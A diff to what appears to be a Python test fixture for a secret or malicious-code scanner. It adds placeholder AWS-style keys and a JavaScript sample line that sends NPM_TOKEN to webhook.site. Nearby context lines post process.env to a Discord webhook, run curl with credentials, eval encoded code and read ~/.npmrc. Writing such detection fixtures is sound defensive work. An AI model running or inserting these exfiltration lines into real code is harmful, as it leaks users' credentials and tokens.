@@ -29,8 +29,10 @@ _SECRETS = (
     "kZ9vB2nM4xC6lQ8s",
     _HEX,
     *_KEY[:1],
+    "wJalrXUtnFEMI/K7MDENG/bPxRfiCYzExampleKey",
+    "AKIAIOSFODNN7EXAMPLF",
 )
-_GHP, _NPM, _JWT, _PASSWORD, _PLAIN, _, _ = _SECRETS
+_GHP, _NPM, _JWT, _PASSWORD, _PLAIN, _, _, _PAIRED, _ACCOUNT = _SECRETS
 _BASIC = "dXNlcjpjb3JyZWN0SG9yc2U3"
 _ALL = (*_SECRETS, _BODY, _BASIC)
 _HOOKS = {
@@ -50,6 +52,7 @@ const key = `{_PEM}`, flat = {json.dumps(_PEM)};
 {"a" * 20}; let token='{_GHP}';/*{_GHP * 2}*/eval(atob('YWxlcnQoMSk7YWxlcnQoMik=' + x));
 cp.exec('curl -u me:{_PASSWORD} https://webhook.site/a -H "Authorization: Bearer {_HEX}"');
 cp.execSync(`git clone https://x-access-token:{_PLAIN}@github.com/a/b`);
+new S3('{_ACCOUNT}', '{_PAIRED}'); fetch('https://webhook.site/' + process.env.NPM_TOKEN);
 cp.execSync(`sshpass -p {_PASSWORD} ssh a`);
 fetch('https://discord.com/api/webhooks/1234567890/{_BODY}{_BODY}', {{ body: process.env }});
 const all = fs.readFileSync(os.homedir() + '/.npmrc', 'utf8');
